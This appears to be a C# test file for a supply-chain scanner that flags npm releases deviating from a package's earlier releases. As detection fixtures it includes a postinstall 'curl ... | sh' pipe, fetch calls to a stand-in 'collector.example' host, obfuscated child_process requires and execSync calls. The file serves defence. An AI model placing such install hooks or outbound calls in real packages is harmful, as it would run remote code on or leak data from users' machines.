using Sluice.Findings;
using Sluice.Policies;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

public sealed class DeviationDetectorTests
{
    private static readonly byte[] Program = [0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[4000]];

    [Fact]
    public void Ordinary_releases_in_a_row_raise_nothing()
    {
        for (var release = 4; release < 15; release++)
            Assert.DoesNotContain(Screening.Rules(Screen(Releases.Book(release - 1), Releases.Pack(release))), rule => rule.StartsWith("deviation/", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("deviation/new-script", ",\"scripts\":{\"postinstall\":\"node index.js\"}")]
    [InlineData("deviation/new-dependency", ",\"dependencies\":{\"helper\":\"https://cdn.example/helper.tgz\"}")]
    [InlineData("deviation/new-executable", ",\"bin\":{\"helper-tool\":\"index.js\"}")]
    public void A_manifest_that_says_what_none_did_is_named(string rule, string manifest) =>
        Assert.Contains(Of(Screen(Releases.Book(14), Releases.Pack(15, manifest)), rule), finding => finding.Severity == Severity.High && finding.Message.Contains("none of 14 releases is like this (1.0.1 to 1.0.14)", StringComparison.Ordinal));

    [Theory]
    [InlineData("deviation/new-capability", "index.net.js", "require('https').get('https://collector.example/');\nfetch('https://collector.example/');\n")]
    [InlineData("deviation/source-map", "extra.js", "1;\n//# sourceMappingURL=data:application/json;base64,e30=\n")]
    [InlineData("deviation/file-type", "NOTES.md", "<ELF>")]
    [InlineData("deviation/new-executable", "addon.node", "<ELF>")]
    public void A_file_of_a_sort_that_none_had_is_named(string rule, string path, string text)
    {
        var bytes = text == "<ELF>" ? Program : System.Text.Encoding.UTF8.GetBytes(text);
        var release = TestArchive.Tgz(("package/package.json", "{\"name\":\"acme-add\",\"version\":\"1.0.15\",\"license\":\"MIT\",\"main\":\"index.js\"}"u8.ToArray()), ("package/index.js", System.Text.Encoding.UTF8.GetBytes(Releases.Code)), ("package/README.md", "# acme-add\n"u8.ToArray()), ("package/LICENSE", "MIT\n"u8.ToArray()), ("package/" + path, bytes));

        Assert.Contains(Of(Screen(Releases.Book(14), release), rule), finding => finding.Severity == Severity.High);
    }

    [Fact]
    public void What_only_informs_never_stops_a_release()
    {
        var report = Screen(Releases.Book(14), Releases.Pack(15, "", ("docs/guide.txt", "See https://guide.example/ for more.\n")));

        Assert.Contains("deviation/new-file", Screening.Rules(report));
        Assert.Contains("deviation/new-host", Screening.Rules(report));
        Assert.Equal(Decision.Allow, report.Decision);
    }

    [Theory]
    [InlineData("node setup.js", null)]
    [InlineData("node setup.js --quiet", Severity.Medium)]
    [InlineData("curl -s https://get.example/x | sh", Severity.High)]
    [InlineData("node setup.js && node -e 1", Severity.High)]
    public void Another_command_at_installation_is_named(string command, Severity? severity)
    {
        var book = new Sluice.Profiles.ProfileBook([Releases.Profile(14, _ => ("postinstall", "node setup.js"))]) { Survey = Sluice.Profiles.Survey.Parse("400") };
        var found = Of(Screen(book, Releases.Pack(15, $$$""","scripts":{"postinstall":"{{{command}}}"}""")), "deviation/new-script");

        Assert.Equal(severity, found.Count == 0 ? null : found.Max(finding => finding.Severity));
    }

    [Theory]
    [InlineData("npm:other-package@1.0.0")]
    [InlineData("bitbucket:someone/repository")]
    [InlineData("gist:0123456789abcdef")]
    public void A_dependency_by_another_way_is_named(string requirement) =>
        Assert.Contains(Of(Screen(Releases.Book(14), Releases.Pack(15, $$$""","dependencies":{"helper":"{{{requirement}}}"}""")), "deviation/new-dependency"), finding => finding.Severity == Severity.High);

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    public void A_short_history_informs_and_says_that_it_is_short(int releases)
    {
        var found = Of(Screen(Releases.Book(releases), Releases.Pack(15, ",\"scripts\":{\"postinstall\":\"node index.js\"}")), "deviation/new-script");

        Assert.All(found, finding => Assert.Equal(Severity.Info, finding.Severity));
        Assert.Contains(found, finding => finding.Message.Contains("not enough history", StringComparison.Ordinal));
    }

    [Fact]
    public void What_a_survey_does_not_vouch_for_warns()
    {
        var report = Screen(Releases.Book(14, survey: "0"), Releases.Pack(15, ",\"scripts\":{\"postinstall\":\"node index.js\"}"));

        Assert.All(Of(report, "deviation/new-script"), finding => Assert.Equal(Severity.Medium, finding.Severity));
    }

    [Fact]
    public void A_release_several_times_the_size_is_named()
    {
        var found = Of(Screen(Releases.Book(14), Releases.Pack(15, "", ("data.txt", string.Concat(Enumerable.Repeat("some words of data\n", 4000))))), "deviation/size");

        Assert.Single(found);
    }

    [Fact]
    public void What_every_release_had_is_missed()
    {
        var release = TestArchive.Npm("{\"name\":\"acme-add\",\"version\":\"1.0.15\",\"license\":\"MIT\",\"main\":\"index.js\"}", ("index.js", Releases.Code), ("LICENSE", "MIT\n"));

        Assert.Contains(Of(Screen(Releases.Book(14), release), "deviation/missing-file"), finding => finding.Message.Contains("README.md", StringComparison.Ordinal));
    }

    [Fact]
    public void Another_package_is_not_held_against_it() =>
        Assert.DoesNotContain(Screening.Rules(Screen(Releases.Book(14), TestArchive.Npm("{\"name\":\"other\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"postinstall\":\"x\"}}"))), rule => rule.StartsWith("deviation/", StringComparison.Ordinal));

    /// <summary>What projects do once in their life stops them in company only.</summary>
    [Theory]
    [InlineData("deviation/new-executable", Severity.Medium, ",\"bin\":{\"acme-add\":\"index.js\"}", "", "")]
    [InlineData("deviation/new-executable", Severity.Medium, ",\"bin\":\"index.js\"", "", "")]
    [InlineData("deviation/new-executable", Severity.High, ",\"bin\":\"index.js\"", "extra.js", "require('child_process').execSync('id');\n")]
    [InlineData("deviation/source-map", Severity.Medium, "", "index.js.map", "<map>")]
    [InlineData("deviation/source-map", Severity.High, ",\"author\":\"Quiet Stranger\"", "index.js.map", "<map>")]
    [InlineData("deviation/publisher", Severity.Low, ",\"author\":\"Quiet Stranger\"", "", "")]
    [InlineData("deviation/publisher", Severity.High, ",\"author\":\"Quiet Stranger\"", "extra.js", "require('child_process').execSync('id');\n")]
    public void One_sign_warns_and_two_stop(string rule, Severity severity, string manifest, string path, string text)
    {
        var map = "{\"version\":3,\"sources\":[\"../src/index.ts\"],\"names\":[],\"mappings\":\"AAAA\"}";
        var report = Screen(Releases.Book(14), Releases.Pack(15, manifest, path.Length == 0 ? [] : [(path, text == "<map>" ? map : text)]));

        var worst = Of(report, rule).MaxBy(finding => finding.Severity)!;
        Assert.Equal(severity, worst.Severity);
        Assert.Equal(severity == Severity.High, worst.Evidence.Any(evidence => evidence.Item1 == "stops together with"));
    }

    /// <summary>An entry point that is led to a file that was there.</summary>
    [Theory]
    [InlineData("helper.js", "exports.a = 1;\n", Severity.Medium)]
    [InlineData("helper.js", "require('child_process').execSync('ls');\n", Severity.Medium)]
    public void An_entry_point_that_is_led_elsewhere_is_named(string path, string text, Severity severity)
    {
        var report = Screen(Releases.Book(14, more: (path, text)), TestArchive.Npm($$"""{"name":"acme-add","version":"1.0.15","license":"MIT","main":"./{{path}}"}""", ("index.js", Releases.Code), (path, text), ("README.md", "# acme-add\n"), ("LICENSE", "MIT\n")));

        var found = Assert.Single(Of(report, "deviation/entry-point"), finding => finding.Message.Contains("begins with", StringComparison.Ordinal));
        Assert.Equal(severity, found.Severity);
        Assert.Contains("known: index.js", found.Message, StringComparison.Ordinal);
        Assert.Equal(text.Contains("child_process", StringComparison.Ordinal), found.Message.Contains("reaches out", StringComparison.Ordinal));
    }

    [Fact]
    public void How_unusual_it_is_and_what_was_known_are_said()
    {
        var found = Of(Screen(Releases.Book(14, survey: "400\n2 commands"), Releases.Pack(15, ",\"bin\":{\"helper-tool\":\"index.js\"}")), "deviation/new-executable");

        Assert.Contains(found, finding => finding.Message.EndsWith("; so did 2 of 400 ordinary releases of the survey", StringComparison.Ordinal) && finding.Evidence.Any(evidence => evidence.Item1 == "in the survey"));
    }

    /// <summary>A package that builds native code loads it, whichever helper does that now.</summary>
    [Theory]
    [InlineData("README.txt", true)]
    [InlineData("binding.gyp", false)]
    public void To_load_native_code_is_news_where_there_was_none(string known, bool stops)
    {
        var report = Screen(Releases.Book(14, more: (known, "{}")), Releases.Pack(15, "", (known, "{}"), ("binding.js", "module.exports = require('bindings')('acme.node');\n")));

        Assert.Equal(stops, Of(report, "deviation/new-capability").Exists(finding => finding.Severity == Severity.High));
    }

    [Fact]
    public void A_map_alone_stops_what_is_of_no_public_source()
    {
        var calibration = new Sluice.Profiles.Calibration(Releases.Profile(8), Sluice.Profiles.Survey.Parse("400"), 0.01, "1.0.99", Sluice.Artifacts.Visibility.Proprietary);

        Assert.True(calibration.Stopping(["source-maps:map", "files"]).ContainsKey("source-maps:map"));
    }

    /// <summary>The same files for another kind of modules bring nothing; other files, or their originals, do.</summary>
    [Theory]
    [InlineData("lib", ".js", false)]
    [InlineData("other", ".js", true)]
    [InlineData("lib", ".ts", true)]
    public void A_tree_that_mirrors_another_is_none(string names, string extension, bool stops)
    {
        (string, string)[] Files(string folder, string start, string end) => [.. Enumerable.Range(0, 12).Select(i => ($"{folder}/{start}-{(char)('a' + i)}x{end}", "exports.a = 1;\n"))];
        var report = Screen(Releases.Book(14, more: Files("lib", "lib", ".js")), Releases.Pack(15, "", [.. Files("lib", "lib", ".js"), .. Files("cjs", names, extension)]));

        Assert.Equal(stops, report.Findings.Any(finding => finding.Finding is { Severity: Severity.High, Rule.Id: "deviation/new-file" }));
    }

    /// <summary>A package that has long reached out, started processes and been minified in places of their own.</summary>
    [Theory]
    [InlineData("deviation/new-host", "client.js", "fetch('https://api.example/');\nfetch('https://collector.example/');\n", true)]
    [InlineData("deviation/new-host", "metrics.js", "require('https').get('https://collector.example/');\n", true)]
    [InlineData("deviation/new-host", "client.js", "fetch('https://api.example/');\nfetch('//collec' +\n  'tor.example/');\n", true)]
    [InlineData("deviation/new-host", "client.js", "fetch('https://api.example/');\nrequire('https').get({ hostname: 'collector.example' });\n", true)]
    [InlineData("deviation/new-host", "client.js", "// https://collector.example/ tells more.\nfetch('https://api.example/');\n", false)]
    [InlineData("deviation/new-host", "client.js", "fetch('https://api.example/');\nexports.help = 'https://collector.example/';\n", false)]
    [InlineData("deviation/new-host", "client.js", "fetch('https://api.example/');\nwarn('This is gone, see https://collector.example/why');\n", false)]
    [InlineData("deviation/new-host", "texts.js", "module.exports = 'https://collector.example/';\n", false)]
    [InlineData("deviation/new-capability", "both.js", "fetch(require('child_process').execSync('id'));\n", true)]
    [InlineData("deviation/new-capability", "other.js", "require('child_process').execSync('id');\n", false)]
    [InlineData("deviation/new-capability", "index.js", "require('chi' + 'ld_process');\n", true)]
    [InlineData("deviation/minification", "payload.js", "<minified>", true)]
    [InlineData("deviation/minification", "index.min.js", "<minified>", false)]
    [InlineData("deviation/minification", "index.prod.js", "<minified>", false)]
    [InlineData("deviation/minification", "index.production.js", "<minified>", false)]
    [InlineData("deviation/minification", "other.prod.js", "<minified>", true)]
    [InlineData("deviation/file-type", "later.js", "", false)]
    public void What_a_file_does_at_once_is_told_from_what_others_did_before(string rule, string path, string text, bool stops)
    {
        (string Path, string Text)[] known = [("client.js", "fetch('https://api.example/');\n"), ("run.js", "require('child_process').execSync('ls');\n")];
        var bytes = text == "<minified>" ? string.Concat(Enumerable.Range(0, 300).Select(i => $"var a{i}={i};")) : text;
        var files = known.Append(("index.js", Releases.Code)).Where(file => file.Item1 != path).Append((path, bytes)).Append(("README.md", "# acme-add\n")).Append(("LICENSE", "MIT\n"));
        var report = Screen(Releases.Book(14, more: known), TestArchive.Npm("{\"name\":\"acme-add\",\"version\":\"1.0.15\",\"license\":\"MIT\",\"main\":\"index.js\"}", [.. files]));

        Assert.Equal(stops, Of(report, rule).Exists(finding => finding.Severity == Severity.High));
    }

    /// <summary>Which file a release begins with: the known one by another name for it, a new one, a known one that is no program.</summary>
    [Theory]
    [InlineData("./index", null)]
    [InlineData("boot.js", Severity.Medium)]
    [InlineData("./boot", Severity.Medium)]
    [InlineData("README.md", Severity.High)]
    [InlineData("LICENSE", Severity.High)]
    public void Another_file_to_begin_with_is_named(string main, Severity? severity)
    {
        var release = TestArchive.Npm($$"""{"name":"acme-add","version":"1.0.15","license":"MIT","main":"{{main}}"}""", ("index.js", Releases.Code), ("boot.js", Releases.Code), ("README.md", "# acme-add\n"), ("LICENSE", "MIT\n"));
        var found = Of(Screen(Releases.Book(14, survey: "400\n8 entry-files"), release), "deviation/entry-point");

        Assert.Equal(severity, found.Count == 0 ? null : found.Max(finding => finding.Severity));
    }

    /// <summary>What people may read without it is nothing to be unpacked.</summary>
    [Theory]
    [InlineData("THIRD-PARTY-LICENSES.md.gz", false)]
    [InlineData("index.js.gz", false)]
    [InlineData("payload.js.gz", true)]
    [InlineData("backup.gz", true)]
    public void A_compressed_copy_is_no_new_kind_of_container(string path, bool isNew)
    {
        using var packed = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            gzip.Write(System.Text.Encoding.ASCII.GetBytes(Releases.Code));
        var book = Releases.Book(14);
        byte[] Text(string text) => System.Text.Encoding.UTF8.GetBytes(text);
        var release = TestArchive.Tgz(("package/package.json", Text("{\"name\":\"acme-add\",\"version\":\"1.0.15\",\"license\":\"MIT\",\"main\":\"index.js\"}")), ("package/index.js", Text(Releases.Code)), ("package/README.md", Text("# acme-add\n")), ("package/LICENSE", Text("MIT\n")), ("package/" + path, packed.ToArray()));

        Assert.Equal(isNew, Screen(book, release).Findings.Any(finding => finding.Finding is { Rule.Id: "deviation/new-kind", Severity: Severity.High }));
    }

    private static Report Screen(Sluice.Profiles.ProfileBook book, byte[] release) => Screening.Of("acme-add.tgz", release, new ScreenOptions { Profiles = book });

    private static List<Finding> Of(Report report, string rule) => [.. report.Findings.Select(reported => reported.Finding).Where(finding => finding.Rule.Id == rule)];
}
